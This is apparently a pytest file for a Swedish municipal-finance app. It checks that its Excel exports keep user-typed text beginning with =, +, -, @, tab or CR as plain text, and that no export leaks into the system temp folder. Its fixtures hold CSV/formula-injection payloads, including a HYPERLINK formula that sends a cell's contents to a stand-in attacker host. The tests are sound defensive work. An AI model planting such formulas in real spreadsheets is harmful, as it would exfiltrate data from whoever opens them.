"""Every Excel export of the app, made from a file where every text a user types begins with = + - @ tab or CR
(or is "#N/A"): that text is held as text (the only formulas are the app's own totals), and nothing of any
export is written in the system temp folder (openpyxl's own save writes every sheet there, in clear).

EXPORTS names every service that makes a workbook; a new one fails `test_every_workbook_service_is_walked`
until it is added here.
"""
from __future__ import annotations

import ast
import io
import os
import re
import sys
import tempfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from finsamdesk.documents.xlsx import FORMULA_STARTS
from finsamdesk.domain.budget import BudgetYear, KommunKey
from finsamdesk.domain.insatser import Insats, Invoice
from finsamdesk.domain.participants import Category, CountPeriod, Participant
from finsamdesk.domain.registers import Forbund, Organisation
from finsamdesk.services import (
    applications,
    budget,
    economy_files,
    esf_files,
    exchange,
    files,
    insatser,
    own_applications,
    participant_files,
    participants,
    registers,
)

PACKAGE = Path(__file__).resolve().parents[2] / "finsamdesk"
HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&C4,"Klicka här")'
HOSTILE = [HYPERLINK, "+46 70 174 06 05", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=2", "#N/A", "=1/0"]
YEAR = 2026
TODAY = date(2026, 6, 1)
PASSPHRASE = "rätt häst batteri häftklammer"


def _hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)] + ("" if i < len(HOSTILE) else f" {i}")


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory):
    """A file where the förbund, organisations, insatser, invoices, budget payers, applications, categories
    and participants all carry hostile text."""
    folder = tmp_path_factory.mktemp("hostile")
    db = files.new_file(folder / "fientlig.sqlite", "x")
    texts = iter(_hostile(i) for i in range(1000))
    registers.save_forbund(db, Forbund(HYPERLINK, "", next(texts), next(texts)))
    kommun = Organisation(next(texts), "", "kommun", member=True)
    registers.save_organisation(db, kommun)
    registers.save_organisation(db, Organisation(next(texts), "", "region", member=True))
    budget.save_year(db, BudgetYear(YEAR, region_name=next(texts), state_name=next(texts),
                                    kommuner=[KommunKey(next(texts), 3, kommun.id), KommunKey(next(texts), 1)]))
    app = applications.create(db, "neutral", HYPERLINK, today=TODAY)
    app.applicant_text = next(texts)
    app.period_start, app.period_end = date(YEAR, 1, 1), date(YEAR, 12, 31)
    applications.save(db, app)
    insats = insatser.save(db, Insats(HYPERLINK, owner=next(texts), contact=next(texts), period_start=date(YEAR, 1, 1),
                                      period_end=date(YEAR, 12, 31), target_group=next(texts), note=next(texts)))
    insatser.set_granted(db, insats.id, YEAR, {next(texts): 100_000_00, next(texts): 50_000_00})
    insatser.save_invoice(db, Invoice(insats.id, date(YEAR, 3, 31), 12_345_00, "", reference=next(texts),
                                      note=next(texts)))
    counted = insatser.save(db, Insats(next(texts), period_start=date(YEAR, 1, 1), period_end=date(YEAR, 12, 31)))
    participants.set_mode(db, counted.id, "antal")
    participants.save_count_period(db, CountPeriod(counted.id, date(YEAR, 1, 1), date(YEAR, 4, 30), 3, 2, 3, 2))
    participants.set_mode(db, insats.id, "individ")
    for kind in ("forsorjning", "utfall"):
        participants.save_category(db, Category(kind, next(texts)))
    support, outcome = (participants.categories(db, kind)[-1].id for kind in ("forsorjning", "utfall"))
    key = participants.create_passphrase(db, PASSPHRASE, PASSPHRASE)
    people = [("19811218-9876", HYPERLINK), ("19900101-0017", next(texts))]
    ids = []
    for n, (pnr, name) in enumerate(people):
        p = Participant(insats.id, code=next(texts)[:40], personnummer=pnr, name=name, note=next(texts),
                        start=date(YEAR, 2, 1), end=date(YEAR, 5, 1) if n == 0 else None, support_id=support,
                        outcome_id=outcome if n == 0 else None, consent_date=date(YEAR, 1, 15),
                        consent_how=next(texts))
        ids.append(participants.save(db, p, key, TODAY).id)
    yield db, key, insats.id, app.id, ids, folder
    db.conn.close()


def _exports(hostile_file, out: Path) -> dict[str, bytes]:
    db, key, insats_id, _app_id, ids, _folder = hostile_file
    return {
        "exchange.application_list_xlsx": exchange.application_list_xlsx(applications.list_rows(db)),
        "exchange.export_application_list_xlsx":
            exchange.export_application_list_xlsx(db, None, out / "ansökningar.xlsx").read_bytes(),
        "economy_files.budget_xlsx": economy_files.budget_xlsx(db, YEAR),
        "economy_files.insats_xlsx": economy_files.insats_xlsx(db, insats_id, TODAY),
        "economy_files.insats_list_xlsx": economy_files.insats_list_xlsx(db, YEAR),
        "participant_files.import_template": participant_files.import_template(db, insats_id),
        "participant_files.export_xlsx":
            participant_files.export_xlsx(db, ids, key, True, out / "med.xlsx").read_bytes(),
        "participant_files.export_xlsx (utan personuppgifter)":
            participant_files.export_xlsx(db, ids, None, False, out / "utan.xlsx").read_bytes(),
        "participant_files.statistics_xlsx": participant_files.statistics_xlsx(db, YEAR),
        "participant_files.statistics_xlsx (en insats)": participant_files.statistics_xlsx(db, None, insats_id),
        "esf_files.budget_xlsx_of": esf_files.budget_xlsx_of(_hostile_own_application(db, "connecto")),
        "esf_files.budget_xlsx_of (2014–2020)": esf_files.budget_xlsx_of(_hostile_own_application(db, "iris")),
        "esf_files.export_budget_xlsx": esf_files.export_budget_xlsx(
            db, _hostile_own_application(db, "connecto", save=True).id, out / "egen budget.xlsx").read_bytes(),
    }


def _hostile_own_application(db, name: str, save: bool = False):
    """An own ESF application whose every text the budget workbook prints is hostile."""
    from tests.fixtures.esf import load

    app = load(name)
    app.name, app.funder_dnr = HYPERLINK, "=1/0"
    for i, line in enumerate(app.esf.spec_lines):
        line.bearer, line.function, line.description = _hostile(i), _hostile(i + 1), _hostile(i + 2)
    if save:
        app.diarienummer = own_applications.new_own_application(db, app.template_id, today=TODAY).diarienummer
        applications.save(db, app)
    return app


def _own_formula(text: str) -> bool:
    """The app's own formulas: sums, differences, shares, IFs, roundings and the rate lookup of an ESF+ budget
    over cell references, nothing else."""
    bare = re.sub(r"(\b[A-Za-zåäöÅÄÖ]+!)?\$?[A-Z]{1,3}\$?[0-9]+", "R", text)  # cell references, on a sheet too
    bare = re.sub(r"\b(SUM|IF|ROUND|VLOOKUP)\(", "(", bare).replace('""', "").replace(",FALSE)", ")")
    return bool(re.fullmatch(r"=[R():+\-*/,=<>0-9.]*", bare))


@pytest.fixture(scope="module")
def exports(hostile_file):
    out = hostile_file[-1] / "ut"
    out.mkdir()
    return _exports(hostile_file, out)


_WRITES: list[list[str]] = []  # while a list is there, the paths opened for writing (or folders made) go into it


def _record_writes(event: str, args: tuple) -> None:
    if not _WRITES or event not in ("open", "os.mkdir"):
        return
    path = args[0]
    if event == "open":
        mode, flags = args[1], args[2]
        writes = (any(c in mode for c in "wax+") if isinstance(mode, str)
                  else bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)))
        if not writes or isinstance(path, int):
            return
    _WRITES[-1].append(os.fsdecode(path))


sys.addaudithook(_record_writes)  # audit hooks cannot be removed; it records nothing outside the test below


def test_nothing_of_any_export_is_written_in_the_system_temp_folder(hostile_file, tmp_path, monkeypatch):
    system_temp, destination = tmp_path / "systemets temp", tmp_path / "mål #1"
    system_temp.mkdir()
    destination.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    _WRITES.append([])
    try:
        made = _exports(hostile_file, destination)
    finally:
        written = _WRITES.pop()
    assert len(made) >= 8 and written
    assert not [p for p in written if Path(p).resolve().is_relative_to(system_temp)], "written in the temp folder"
    assert not list(system_temp.iterdir())
    with_identifiers = [p for p in written if "med.xlsx" in p]
    assert with_identifiers and all(Path(p).resolve().is_relative_to(destination) for p in with_identifiers)
    assert sorted(p.name for p in destination.iterdir()) == ["ansökningar.xlsx", "egen budget.xlsx", "med.xlsx",
                                                             "utan.xlsx"]


def test_no_user_text_is_a_formula_in_any_export(exports):
    for name, data in exports.items():
        wb = load_workbook(io.BytesIO(data))
        hostile_seen = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    where = f"{name}: {ws.title}!{cell.coordinate}"
                    assert cell.data_type != "e", f"{where} is an error value: {cell.value!r}"
                    if cell.data_type == "f":
                        assert _own_formula(str(cell.value)), f"{where} is a formula: {cell.value!r}"
                        continue
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, f"{where} may turn into a formula"
                        hostile_seen += 1
        assert hostile_seen, f"{name}: no hostile text reached the workbook (the test would prove nothing)"


def test_the_hyperlink_name_is_kept_as_typed(exports):
    for name in ("participant_files.export_xlsx", "exchange.application_list_xlsx", "economy_files.insats_xlsx",
                 "economy_files.insats_list_xlsx"):
        wb = load_workbook(io.BytesIO(exports[name]))
        values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert HYPERLINK in values, name


def test_the_apps_own_totals_are_still_formulas(exports):
    wb = load_workbook(io.BytesIO(exports["economy_files.insats_xlsx"]))
    formulas = [c.value for row in wb["Ekonomi"].iter_rows() for c in row if c.data_type == "f"]
    assert any(f.startswith("=SUM(") for f in formulas) and any(re.fullmatch(r"=B\d+-C\d+", f) for f in formulas)


def test_every_workbook_service_is_walked(exports):
    """Every public service function that makes an Excel file is in `_exports`."""
    made = set()
    for path in sorted((PACKAGE / "services").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.FunctionDef) and not node.name.startswith("_") and (
                    "xlsx" in node.name or node.name == "import_template"):
                made.add(f"{path.stem}.{node.name}")
    walked = {name.split(" ")[0] for name in exports}
    assert made <= walked, f"not walked: {sorted(made - walked)}"


def test_every_workbook_is_saved_through_the_one_helper():
    """No module saves a workbook itself (openpyxl's own save makes "=…" a formula and writes via /tmp)."""
    for path in sorted(PACKAGE.rglob("*.py")):
        if path.name == "xlsx.py" or path.name.startswith("bench"):
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text:
            assert "save_workbook(" in text, f"{path.relative_to(PACKAGE)} makes a workbook but not via save_workbook"
        assert not re.search(r"\b(wb|workbook|book)\.save\(", text), f"{path.relative_to(PACKAGE)} saves a workbook"
